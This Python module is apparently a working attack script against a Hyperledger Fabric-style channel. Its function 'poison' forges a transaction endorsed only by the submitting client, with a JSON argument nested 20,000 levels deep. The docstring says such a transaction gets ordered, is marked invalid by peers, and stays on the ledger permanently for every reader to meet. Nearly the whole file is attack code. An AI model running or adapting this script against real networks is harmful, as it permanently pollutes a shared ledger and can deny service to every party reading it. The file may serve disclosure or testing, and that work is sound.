"""A transaction that no peer endorsed and every reader of the ledger meets: its argument is JSON too deep to read.

Any client of the channel can have such a one ordered. Peers find it invalid, and it stays on the ledger for good.
"""

from __future__ import annotations

import hashlib

from fabric_protos.common import common_pb2
from fabric_protos.peer import (
    chaincode_pb2,
    proposal_pb2,
    proposal_response_pb2,
    transaction_pb2,
)

from consilium_peers.commit import CommitStatus, Transaction
from consilium_peers.gateway import Gateway
from consilium_peers.identity import Identity
from consilium_peers.profile import Profile
from consilium_peers.proposal import sign_proposal

DEPTH = 20_000
ARGUMENT = b'{"x":' + b"[" * DEPTH + b"]" * DEPTH + b"}"


async def poison(profile: Profile) -> CommitStatus:
    """Have the transaction ordered, endorsed by its own client alone; return how peers found it."""
    async with Gateway.connect(profile) as gateway:
        signed = sign_proposal(gateway.identity, profile.channel, profile.chaincode, [b"Join", ARGUMENT])
        proposal = proposal_pb2.Proposal.FromString(signed.message.proposal_bytes)
        payload = _self_endorsed(gateway.identity, profile.chaincode, proposal)
        envelope = common_pb2.Envelope(payload=payload, signature=gateway.identity.sign(payload))
        made = Transaction(gateway.connections, gateway.identity, profile.channel, signed.tx_id, envelope)
        return await (await made.submit()).status()


def _self_endorsed(identity: Identity, chaincode: str, proposal: proposal_pb2.Proposal) -> bytes:
    header = common_pb2.Header.FromString(proposal.header)
    bound = hashlib.sha256(header.channel_header + header.signature_header + proposal.payload).digest()
    action = proposal_pb2.ChaincodeAction(
        response=proposal_response_pb2.Response(status=200),
        chaincode_id=chaincode_pb2.ChaincodeID(name=chaincode, version="1"),
    )
    response = proposal_response_pb2.ProposalResponsePayload(
        proposal_hash=bound, extension=action.SerializeToString()
    ).SerializeToString()
    endorsement = proposal_response_pb2.Endorsement(
        endorser=identity.serialized, signature=identity.sign(response + identity.serialized)
    )
    endorsed = transaction_pb2.ChaincodeEndorsedAction(proposal_response_payload=response, endorsements=[endorsement])
    whole = transaction_pb2.ChaincodeActionPayload(
        chaincode_proposal_payload=proposal.payload, action=endorsed
    ).SerializeToString()
    transaction = transaction_pb2.Transaction(
        actions=[transaction_pb2.TransactionAction(header=header.signature_header, payload=whole)]
    )
    return bytes(common_pb2.Payload(header=header, data=transaction.SerializeToString()).SerializeToString())
